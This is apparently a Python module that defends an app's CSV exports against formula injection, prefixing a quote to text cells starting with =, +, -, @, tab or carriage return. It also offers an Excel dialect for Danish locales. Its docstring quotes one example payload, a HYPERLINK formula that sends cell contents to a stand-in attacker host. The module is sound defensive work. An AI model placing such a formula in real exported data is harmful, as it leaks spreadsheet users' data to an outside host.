"""CSV the app writes: cells that a spreadsheet would read as a formula are neutralised.

A name such as ``=HYPERLINK("http://evil.example/?"&A1,"Klik")`` typed into the app would be a
live formula in the planner's Excel or LibreOffice. Following OWASP's advice on CSV injection,
a text cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single
quote in front (shown, and the cell stays text). Numbers stay numbers, and a text that is only
a number (``-12.5``) or only one character (the tables' ``-`` for "none") is left as it is: no
formula can hide in it. Every CSV writer of the app goes through :func:`csv_text`.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def safe_cell(value):
    """*value* as a CSV cell that no spreadsheet evaluates."""
    if not isinstance(value, str) or len(value) < 2 or not value.startswith(FORMULA_STARTS):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


class ExcelDanish(csv.excel):
    """What a spreadsheet set to Danish opens with a double click: ``;`` between cells (the
    comma is the decimal sign there). Its numbers are written with a decimal comma."""

    delimiter = ";"


DIALECTS = {"excel": csv.excel, "excel-da": ExcelDanish}


def decimal_comma(value):
    """A float as text with a decimal comma (11.1 -> "11,1"); anything else as it is."""
    if isinstance(value, float):
        return repr(value).replace(".", ",")
    return value


def csv_text(headers: Iterable, rows: Iterable[Iterable], dialect: str = "excel") -> str:
    """The table as CSV text in *dialect* (a key of :data:`DIALECTS`; Excel's by default),
    every cell through :func:`safe_cell`."""
    buf = io.StringIO()
    writer = csv.writer(buf, dialect=DIALECTS[dialect])
    number = decimal_comma if dialect == "excel-da" else (lambda v: v)
    writer.writerow([safe_cell(h) for h in headers])
    writer.writerows([safe_cell(number(v)) for v in row] for row in rows)
    return buf.getvalue()
